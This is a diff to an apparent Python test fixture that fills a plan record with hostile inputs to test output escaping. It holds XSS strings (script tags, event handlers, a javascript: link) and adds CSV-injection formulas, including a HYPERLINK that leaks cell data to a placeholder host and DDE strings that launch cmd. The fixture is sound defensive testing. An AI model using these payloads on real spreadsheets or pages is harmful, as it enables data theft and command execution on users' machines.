@@ -43,6 +43,8 @@ HOSTILE_TEXT = f"""Opening paragraph of the hostile plan.
 """
 HOSTILE_TITLE = f"<script>window.{PWNED_FLAG}='title'</script> Local heading {{: onclick=\"window.{PWNED_FLAG}='attr'\" }}"
 SEARCHABLE_SCHEME = "Zebrafinch Community Reablement"
+CSV_FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+1+cmd|' /C notepad'!A0", "-2+3"]
 
 
 @dataclass(frozen=True)
@@ -109,6 +111,11 @@ def _hostile_plan(rich: dict) -> dict:
     plan["schemes"][1]["name"] = f"<script>window.{PWNED_FLAG}='scheme'</script>"
     plan["risks"] = [{"risk": "<b onmouseover=alert(1)>hover</b>", "mitigation": HOSTILE_TEXT}]
     plan["related_documents"] = [{"title": "A javascript link", "link": "javascript:alert('related')"}]
+    # Text a spreadsheet would run as a formula if the open data wrote it as it is (OWASP CSV injection).
+    plan["schemes"][2]["provider"] = CSV_FORMULAS[0]
+    plan["schemes"][0]["provider"] = CSV_FORMULAS[1]
+    plan["capacity_demand"] = [{"service": CSV_FORMULAS[2], "kind": "demand", "source": CSV_FORMULAS[3],
+                                "months": {"2023-04": 12, "2023-05": 14.5}}]
     return plan
 
 
